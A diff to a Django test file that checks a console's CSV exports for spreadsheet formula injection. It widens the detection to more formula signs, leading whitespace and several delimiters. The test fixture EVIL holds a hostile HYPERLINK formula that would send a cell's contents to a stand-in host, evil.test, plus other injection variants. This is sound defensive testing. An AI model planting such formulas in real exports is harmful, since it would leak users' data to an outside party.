@@ -17,13 +17,13 @@ from django.utils import timezone
 from console.audit.models import AuditRecord, ReadCount
 from console.connections import clients
 from console.jobs.models import Item, Job, Secret
-from console.ui.csv import FORMULA
+from console.ui.csv import FORMULA_SIGNS
 from tests.console_process import CHECKOUT
 from tests.damage import DamagingTransport, change_values
 from tests.populated import PopulatedTeam, list_addresses
 
 SignIn = Callable[[str], Client]
-EVIL = '=HYPERLINK("evil.test?"&A1)'
+EVIL = '=HYPERLINK("evil.test?"&A1);=1+1|"=2+2\t@x'
 # The current exports. A new export is tested too; a missing one fails.
 KNOWN_EXPORTS = {
     "products:list",
@@ -45,7 +45,7 @@ def is_formula(cell: str) -> bool:
     try:
         float(cell)
     except ValueError:
-        return cell.startswith(FORMULA)
+        return cell.lstrip(' "\t\r\n').startswith(tuple(FORMULA_SIGNS))
     return False
 
 
@@ -99,10 +99,11 @@ def test_no_export_contains_a_cell_that_a_spreadsheet_would_run(
     exports, formulas, neutralized = set(), [], set()
     for name, text in read_exports(hostile, sign_in("owner")):
         exports.add(name)
-        for row in csv.reader(io.StringIO(text)):
-            formulas += [f"{name}: {cell!r}" for cell in row if is_formula(cell)]
-            if any(cell.startswith("'=") for cell in row):
-                neutralized.add(name)
+        for separator in ",;\t|":  # each of them is the usual one somewhere
+            for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+                formulas += [f"{name}: {cell!r}" for cell in row if is_formula(cell)]
+                if any(cell.startswith("'=") for cell in row):
+                    neutralized.add(name)
     assert formulas == []
     assert exports >= KNOWN_EXPORTS
     assert neutralized >= exports - SAFE_TEXT_FIRST, (
